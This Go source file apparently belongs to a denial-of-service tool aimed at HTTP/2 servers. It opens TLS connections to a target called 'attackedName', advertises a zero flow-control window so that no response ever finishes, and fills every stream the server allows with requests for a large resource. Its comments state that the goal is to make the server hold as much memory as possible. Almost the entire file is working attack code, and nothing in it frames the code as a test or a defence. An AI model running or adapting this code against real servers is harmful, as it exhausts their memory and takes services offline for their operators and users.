package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// http2Dial returns a dial for connections that make HTTP/2 hold as much memory as they can. They grant no window, so that
// no response ends. streams is how many requests the server allows at once.
func http2Dial(send func(framer *http2.Framer, streams uint32)) dial {
	return func(ctx context.Context, addr string) (misuse func(), err error) {
		config := &tls.Config{ServerName: attackedName, InsecureSkipVerify: true, NextProtos: []string{"h2"}}
		conn, err := tls.DialWithDialer(&net.Dialer{Timeout: 10 * time.Second}, "tcp", addr, config)
		if err != nil {
			return nil, err
		}
		context.AfterFunc(ctx, func() { conn.NetConn().Close() })
		io.WriteString(conn, http2.ClientPreface)
		framer := http2.NewFramer(conn, conn)
		framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		frame, err := framer.ReadFrame()
		settings, ok := frame.(*http2.SettingsFrame)
		if !ok {
			return nil, fmt.Errorf("%v, %v, want SETTINGS", frame, err)
		}
		framer.WriteSettingsAck()
		streams, _ := settings.Value(http2.SettingMaxConcurrentStreams)
		return func() { send(framer, streams) }, nil
	}
}

// request opens the stream number i. The film is longer than every buffer.
func request(framer *http2.Framer, i uint32, method string, ends bool, fields ...string) {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	pairs := append([]string{":method", method, ":scheme", "https", ":authority", attackedName, ":path", film}, fields...)
	for pair := 0; pair < len(pairs); pair += 2 {
		encoder.WriteField(hpack.HeaderField{Name: pairs[pair], Value: pairs[pair+1], Sensitive: true}) // kept out of the table
	}
	framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: block.Bytes(), EndStream: ends, EndHeaders: true})
}
